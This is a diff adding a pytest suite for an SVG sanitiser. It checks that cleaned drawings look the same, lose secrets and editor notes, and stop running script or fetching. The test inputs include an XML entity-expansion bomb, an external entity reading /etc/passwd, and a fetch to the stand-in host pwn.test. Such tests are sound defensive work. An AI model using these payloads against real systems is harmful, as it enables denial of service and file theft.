@@ -1,0 +1,160 @@
+"""SVG is written anew from what may stay: it does nothing, tells nothing and looks as before."""
+
+import base64
+import time
+from pathlib import Path
+
+import pytest
+from browser import Browser
+from hypothesis import given
+from hypothesis import strategies as st
+from pictures import PNG, SECRET
+
+from tamizdat import assets
+from tamizdat.assets import stylesheet
+from tamizdat.errors import AssetError
+
+HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+CASES = Path(__file__).parent / "cases" / "drawings"
+DRAWINGS = {path.stem: path.read_text(encoding="utf-8") for path in CASES.glob("*.svg")}
+EDITORS = (CASES / "editors.xml").read_text(encoding="utf-8")
+HOSTILE = (CASES / "hostile.txt").read_text(encoding="utf-8").splitlines()
+"""Pieces of drawings that would do something, call go() or fetch from pwn.test."""
+
+
+def clean(text):
+    return assets.clean(text.encode() if isinstance(text, str) else text, ".svg")
+
+
+def inside(text):
+    """What is left of something in an SVG."""
+    found = clean(f"{HEAD}>{text}</svg>").data.decode()
+    return found.partition(">")[2].removesuffix("</svg>\n")
+
+
+def test_drawings_look_the_same(tmp_path):
+    with Browser() as browser:
+        for name, drawing in DRAWINGS.items():
+            path = tmp_path / f"{name}.svg"
+            seen = []
+            for data in (drawing.encode(), clean(drawing).data):
+                path.write_bytes(data)
+                seen.append(browser.open(path, width=500, height=300).picture())
+            assert seen[0] == seen[1], name
+            path.write_text(f"{HEAD} width='10' height='10'/>")
+            assert browser.open(path, width=500, height=300).picture() != seen[0], name
+
+
+def test_what_is_clean_stays_as_it_is():
+    for name, drawing in DRAWINGS.items():
+        once = clean(drawing)
+        assert once.lost == (("<foreignObject>",) if name == "switch" else ()), name
+        assert clean(once.data).data == once.data
+
+
+def test_what_editors_note_for_themselves_goes_and_nobody_misses_it():
+    found = clean(EDITORS)
+
+    assert SECRET.encode() not in found.data
+    assert b"pwn.test" not in found.data
+    assert b'<rect width="9" height="9"' in found.data
+    assert found.lost == ()
+
+
+def test_nothing_hostile_is_left():
+    for line in HOSTILE:
+        for piece in ("pwn.test", "go()", "javascript", "xhtml", "data:"):
+            assert piece not in inside(line) or "/script&gt;" in inside(line), line
+
+
+def test_a_browser_runs_and_fetches_nothing(tmp_path):
+    """With a control: as they were, they do both."""
+    go = "fetch('http://pwn.test/script')"
+    asked = {}
+    with Browser() as browser:
+        for name, made in (("raw", str.encode), ("clean", lambda text: clean(text).data)):
+            asked[name] = set()
+            for number, line in enumerate(HOSTILE):
+                path = tmp_path / f"{name}{number}.svg"
+                drawing = f"{HEAD} width='20' height='20'>{line.replace('go()', go)}</svg>"
+                path.write_bytes(made(drawing))
+                browser.open(path)
+                browser.ask("new Promise(done => setTimeout(done, 20))")
+                browser.picture()
+                asked[name] |= {(number, u) for u in browser.requests if "pwn.test" in u}
+
+    assert asked["clean"] == set()
+    assert len({number for number, _ in asked["raw"]}) > 12
+    assert any(url.endswith("/script") for _, url in asked["raw"])
+
+
+BOMB = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
+
+
+@pytest.mark.parametrize(
+    ("text", "words"),
+    [
+        (f'<!DOCTYPE svg [<!ENTITY a "ha">{BOMB}]>{HEAD}><text>&m;</text></svg>', "entities"),
+        (f'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>{HEAD}>&a;</svg>', "entities"),
+        (f'<!DOCTYPE svg SYSTEM "a.dtd">{HEAD}>&nbsp;</svg>', "entities"),
+        (f"{HEAD}><text>&nbsp;</text></svg>", "not valid XML in its line 1"),
+        ("<svg><rect/></svg>", "first element"),
+        (f"{HEAD}>\n<rect></svg>", "not valid XML in its line 2"),
+        (f"{HEAD}/><script/>", "not valid XML"),
+        (f"{HEAD}>" + "<g>" * 200_000, "without end"),
+        (f"{HEAD}><style>" + "a{" * 100_000 + "</style></svg>", "nested"),
+        (f"{HEAD}><rect fill='{'(' * 100_000}'/></svg>", "nested"),
+        (f"{HEAD}><rect style='x:{'f(' * 100_000}'/></svg>", "nested"),
+        (f'<?xml version="1.0" encoding="x-none"?>{HEAD}/>', "not valid XML"),
+    ],
+)
+def test_what_cannot_be_cleaned_is_refused_at_once(text, words):
+    start = time.process_time()
+
+    with pytest.raises(AssetError, match=words):
+        clean(text)
+
+    assert time.process_time() - start < 5
+
+
+def test_other_encodings_become_utf8():
+    text = f'<?xml version="1.0" encoding="utf-16"?>{HEAD}><text>é Ω</text></svg>'
+    assert "é Ω" in clean(text.encode("utf-16")).data.decode()
+    text = text.replace("utf-16", "iso-8859-7").replace("é", "e")
+    assert "e Ω" in clean(text.encode("iso-8859-7")).data.decode()
+
+
+def test_a_picture_inside_is_clean_and_one_that_cannot_be_goes():
+    secret = base64.b64encode(PNG + SECRET.encode()).decode()
+    assert base64.b64encode(PNG).decode() in inside(
+        f'<image href="data:image/png;base64,{secret}"/>'
+    )
+    found = clean(f'{HEAD}><image href="data:image/png;base64,{secret[:40]}"/></svg>')
+    assert found.lost == ("a picture in it that can't be made clean",)
+    assert b"<image/>" in found.data
+
+
+def test_fonts_that_are_part_of_the_file_stay():
+    source = 'url(data:font/woff2;base64,d09G) format("woff2"),local("y")'
+    css = f'@font-face{{font-family:"x";src:{source}}}'
+    assert stylesheet.rules(css) == (css, False)
+
+
+@given(st.text("az{}()[];:'\"\\/*@#,-url <>!", max_size=60))
+def test_any_stylesheet_is_cleaned_and_then_stays(css):
+    try:
+        once, _ = stylesheet.rules(css)
+        assert stylesheet.rules(once) == (once, False)
+        assert isinstance(stylesheet.stays(css), bool)
+    except AssetError:
+        pass
+
+
+@given(st.binary(max_size=200), st.integers(0, len(EDITORS)))
+def test_damage_is_refused_or_cleaned_and_nothing_else(extra, place):
+    data = EDITORS.encode()
+    try:
+        once = clean(data[:place] + extra + data[place:])
+    except AssetError:
+        return
+    assert clean(once.data).data == once.data
